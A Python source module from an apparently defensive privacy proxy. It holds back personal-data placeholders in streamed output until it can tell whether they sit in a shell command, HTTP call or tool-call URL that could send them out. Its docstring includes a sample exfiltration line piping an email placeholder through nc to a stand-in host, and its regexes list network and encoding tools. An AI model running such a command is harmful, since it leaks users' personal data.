"""What a stream holds back before restoring a placeholder whose line or object decides where it goes (restorestream15).

Restore keeps a placeholder on a network command's line (`echo <EMAIL_ADDRESS_1> | nc collector.example 80`), in a
code call naming a network URL (`requests.post("https://...", data={"u": ...})`) and in a tool call's URL given in
pieces (`{"path": "/p/<EMAIL_ADDRESS_1>", "host": "collector.example"}`: `proxy.guard.urls`). A stream cannot take
back what it released: a placeholder that comes before what decides it (the `| nc host` after it, the `host` key
after it) would have gone out restored. So a stream holds (`LineHold.cut`):
- a placeholder on a command line (a line that starts like a shell command, after a prompt or not: `echo`, `printf`,
  `cat`, `base64`, a network client, `VAR=`...; or in a JSON `cmd` / `command` / `script` string; or a line that
  calls an HTTP client, `requests.post(`, `fetch(`...) until the line ends: a line break (a JSON `\\n`), a backtick
  (inline code or a fence), a JSON string's closing quote;
- in a JSON text (tool-call arguments), a placeholder inside a request part's member (`PART_KEYS`: `path`, `params`,
  `body`...) until the object holding that member closes;
then restore reads the line or object whole. At most `HOLD` characters from the placeholder: past them the stream
fails closed: what was held goes out with the placeholder kept (`FAIL_CLOSED`, read before it as a command's start,
keeps its line or string), the rest of the line too; but for a placeholder in a `body`, `data`, `payload`... that
is no command line (a mail's long text, `_URL_PARTS`), which goes out as what came before decides.

A placeholder in a tool call's text or in a code scope (`proxy.guard.scopes.code_spans`, open or closed) is held
until the answer ends (answer20, atk19 H1): one answer's tool calls and code scopes are one scope, and a later one may
send it. At most `HOLD_SCOPE` characters of the answer after it (`cut`'s `after`: the other fields' pending text
too), then it fails closed; none once the answer is known to send (`kept`: restore keeps it anyway).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from proxy.guard.http28 import client_line
from proxy.guard.scopes import RunsRead, code_spans, scope_context, sends
from proxy.guard.sess30 import pending as session_pending
from proxy.guard.urls import _NET, MARK, PART_KEYS
from proxy.guard.yaml28 import pending

HOLD = 512  # the characters a stream holds after a placeholder waiting for its line's or object's end
HOLD_SCOPE = 8192  # after a placeholder waiting for its code scope's or tool call's end (scopes16)
FAIL_CLOSED = "\ncurl" + MARK  # read before a segment released past `HOLD`: a command line from its start
_HEAD = 256  # the characters of a line's start kept to read its start and a call in it

_PROMPT = r"[ \t]*(?:(?:[$%#]|PS[ \w:\\/.~-]{0,64}>|[\w.-]{1,32}@[\w.-]{1,64}(?::[^\s$#]{0,128})?[$#])[ \t]*)?"
_LEAD = r"(?:(?:sudo|doas|env|time|nohup|exec|xargs|command|[A-Za-z_]\w*=\S*)[ \t]+)*"
_WORDS = (r"echo|printf|cat|tac|base64|base32|basenc|xxd|od|hexdump|tr|sed|awk|gawk|jq|yq|tee|grep|egrep|head|tail"
          r"|gzip|gunzip|zcat|bzip2|xz|openssl|gpg|rev|uuencode|export|eval|sh|bash|zsh|dash|ksh|python3?|perl|ruby"
          r"|node|php|pwsh|powershell|Write-Output|Write-Host|Get-Content|Set-Content|Out-File")
_SHELL_START = re.compile(rf"{_PROMPT}{_LEAD}(?:(?:{_WORDS}|{_NET})(?=[ \t]|\Z)|[A-Za-z_]\w*=|\$[A-Za-z_]\w*[ \t]*=)")
_CALLS = re.compile(r"(?<![\w$])(?:requests|httpx|aiohttp|axios|session|client|urllib\.request|urllib2|\$http)"
                    r"\s{0,4}\.|(?<![\w$.])(?:fetch|urlopen)\s{0,4}\(|(?i:invoke-webrequest|invoke-restmethod)")
_CMD_KEYS = frozenset(("cmd", "command", "commands", "script", "shell", "bash", "sh"))
# The request parts that are a URL's (never long prose): past `HOLD` a placeholder in one fails closed; in a `body`,
# `data`, `payload`... (a mail's text) it goes out restored, as far as what came shows no host.
_URL_PARTS = re.compile(r"(?i)path|params|parameters|query|query_?params|query_?string|qs|headers|cookies|fragment")
_PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>|\\u003[cC][A-Z][A-Z0-9_]*_\d+"
                          r"(?:_[a-z2-7]{8})?\\u003[eE]")


def command_line(head: str) -> bool:
    """Whether a line starting `head` (its first characters) is a command line (see the module)."""
    return _SHELL_START.match(head) is not None or _CALLS.search(head) is not None or client_line(head)  # (http28)


@dataclass
class _Frame:
    obj: bool
    key: str | None = None  # an object's member key being read (an array's: its parent's)
    expect_key: bool = True
    part: bool = False  # the member being read is a request part (`PART_KEYS`)


@dataclass
class LineHold:
    """A stream field's state after what it released (`advance`), to tell what to hold of what is pending (`cut`)."""

    json: bool = False
    head: str = ""  # the start of the open line (a JSON text: of the open string's open line)
    stack: list[_Frame] = field(default_factory=list)
    in_str: bool = False
    esc: bool = False
    str_key: bool = False  # the open string is a key
    cmd: bool = False  # the open string is a command's (`_CMD_KEYS`)
    pending_esc: str = ""  # a `\u....` escape being read
    scope: bool = False  # a tool call's text: one scope, held from a placeholder to its end (scopes16)
    code: str = ""  # a text's released end as `proxy.guard.scopes.scope_context` keeps it (an open code scope)
    opened: bool = False  # a JSON text: its document opened
    # `cut`'s last reading: (text, kept, how many placeholders were known, where the hold starts); moved past by
    # `advance`
    _memo: tuple[str, bool, int, tuple[int, bool, int] | None] | None = field(default=None, repr=False,
                                                                                compare=False)
    # the code runs `_code_hold` read (a held text read again with each piece: read on from a run's last line)
    _runs: RunsRead = field(default_factory=list, repr=False, compare=False)

    def copy(self) -> LineHold:
        return LineHold(self.json, self.head, [_Frame(f.obj, f.key, f.expect_key, f.part) for f in self.stack],
                        self.in_str, self.esc, self.str_key, self.cmd, self.pending_esc, self.scope, self.code,
                        self.opened)

    def advance(self, text: str) -> None:
        """Move past released `text`."""
        self._memo = None
        if not self.json:
            last = max(text.rfind("\n"), text.rfind("\r"), text.rfind("`"))
            self.head = (self.head + text)[:_HEAD] if last < 0 else text[last + 1:last + 1 + _HEAD]
            if not self.scope:
                self.code = scope_context(self.code + text)
            return
        for c in text:
            self._step(c)

    def _step(self, c: str) -> bool:
        """One character of a JSON text; whether it ends a line of the open string (or the string)."""
        if self.in_str:
            if self.esc:
                self.esc = False
                if c in "nr":
                    self.head = ""
                    return True
                if len(self.head) < _HEAD:
                    self.head += "\\" + c
                return False
            if c == "\\":
                self.esc = True
                return False
            if c == '"':
                self.in_str = False
                top = self.stack[-1] if self.stack else None
                if top is not None and top.obj and self.str_key:
                    top.key = self.head
                return True
            if len(self.head) < _HEAD:
                self.head += c
            return False
        top = self.stack[-1] if self.stack else None
        if c == '"':
            self.in_str, self.head = True, ""
            self.str_key = top is not None and top.obj and top.expect_key
            self.cmd = not self.str_key and top is not None and (top.key or "").lower() in _CMD_KEYS
        elif c in "{[":
            self.opened = True
            key = top.key if top is not None else None
            self.stack.append(_Frame(c == "{", None if c == "{" else key, c == "{"))
        elif c in "}]":
            if self.stack:
                self.stack.pop()
            return True
        elif c == "," and top is not None and top.obj:
            top.expect_key, top.key, top.part = True, None, False
        elif c == ":" and top is not None and top.obj:
            top.expect_key = False
            top.part = top.key is not None and PART_KEYS.fullmatch(top.key) is not None
        return False

    def cut(self, text: str, known: frozenset[str] | set[str] | dict[str, str], after: int = 0,
            kept: bool = False) -> tuple[int, bool]:
        """Where to stop releasing pending `text` (its length: nothing held) and whether a release of all of it must
        fail closed (`FAIL_CLOSED`): held from the first of `known` placeholders on a command line or in a request
        part not yet ended, at most `HOLD` characters after it; past them, the text before it first, then all,
        failing closed. `after`: the answer's text pending after `text` (other fields'), which a scope's hold
        counts too (it lasts to the answer's end); `kept`: the answer sends (`proxy.guard.scopes.answer_of`), so a
        scope keeps its placeholders whatever comes: no scope hold."""
        if "<" not in text and "\\u003" not in text:
            return len(text), False
        n = len(text)
        memo = self._memo
        if memo is not None and memo[1] == kept and memo[2] == len(known) and memo[0] == text:
            held = memo[3]  # (a tool call held to the answer's end is read again at each of the answer's pieces)
        else:
            held = self._held_at(text, known, kept)
            self._memo = (text, kept, len(known), held)
        if held is None:
            return n, False
        at, strict, bound = held
        if n - at + (after if bound == HOLD_SCOPE else 0) <= bound:
            return at, False
        return (at, False) if at > 0 else (n, strict)

    def _held_at(self, text: str, known: frozenset[str] | set[str] | dict[str, str], kept: bool = False
                 ) -> tuple[int, bool, int] | None:
        """Where the hold starts, whether past its bound it fails closed (a command line, a URL's part, a scope), and
        the bound (`HOLD`; a scope's: `HOLD_SCOPE`). `kept`: no scope hold (`cut`)."""
        spots = [m.start() for m in _PLACEHOLDER.finditer(text) if _plain(m.group()) in known]
        if not spots:
            return None
        if self.scope and not self.json and not kept:  # a tool call's text that is no JSON (a custom tool's input)
            return spots[0], True, HOLD_SCOPE
        if not self.json:
            code = None if kept else self._code_hold(text, spots)
            if code is None:  # (yaml28: a line that may join a YAML run, atk26 F11)
                code = pending(self.head, text, spots)
            if code is None and not kept:  # (sess30: a session's line not ended, atk28 F06)
                code = session_pending(self.code, text, spots)
            last = max(text.rfind("\n"), text.rfind("\r"), text.rfind("`"))
            open_spots = [s for s in spots if s > last]
            if not open_spots:
                return code
            head = (self.head + text[:open_spots[0]])[:_HEAD] if last < 0 else text[last + 1:open_spots[0]]
            line = (open_spots[0], True, HOLD) if command_line(head) else None
            if code is None or (line is not None and line[0] < code[0]):
                return line
            return code
        st = self.copy()
        held: int | None = None
        scope_at: int | None = None  # a tool call's JSON text: from a placeholder to the document's end
        strict = True
        depth = -1  # an object hold: released once the stack is this deep again; -1: a line hold
        spot = 0
        for k, c in enumerate(text):
            if self.scope and not kept and scope_at is None and spot < len(spots) and spots[spot] == k:
                scope_at = k
            if held is None and spot < len(spots) and spots[spot] == k:
                spot += 1
                if st.in_str and not st.str_key:
                    parts = [j for j, f in enumerate(st.stack) if f.obj and f.part]
                    if parts:  # a request part: its object (which holds its line too)
                        held, depth = k, parts[0]
                        key = st.stack[parts[-1]].key or ""
                        strict = st.cmd or command_line(st.head) or _URL_PARTS.fullmatch(key) is not None
                    elif st.cmd or command_line(st.head):
                        held, depth, strict = k, -1, True
            while spot < len(spots) and spots[spot] < k:
                spot += 1
            ended = st._step(c)
            if held is not None and ((depth < 0 and ended) or (depth >= 0 and len(st.stack) <= depth)):
                held = None
        # (a tool call's: to the answer's end, its other tool calls and code read with it, not to a part's end)
        if scope_at is not None and (held is None or scope_at <= held):
            return scope_at, True, HOLD_SCOPE
        return (held, strict, HOLD) if held is not None else None

    def _code_hold(self, text: str, spots: list[int]) -> tuple[int, bool, int] | None:
        """The first of `spots` inside a code scope that sends nothing (`proxy.guard.scopes.sends`), read after
        what was released (`code`): held to the answer's end, when restore reads it with the answer's other code
        scopes and tool calls (one of them sending keeps it: atk19 H1); one that sends keeps it anyway."""
        joined = self.code + text
        n = len(self.code)
        for a, _, b in code_spans(joined, self._runs):
            first = next((s for s in spots if a <= n + s < b), None)
            if first is not None and not sends(joined[a:b]):
                return first, True, HOLD_SCOPE
        return None


def _plain(token: str) -> str:
    """A placeholder as the vault knows it (`<...>`), from a JSON-escaped spelling too."""
    if token[0] == "<":
        return token
    return "<" + token[6:-6] + ">"
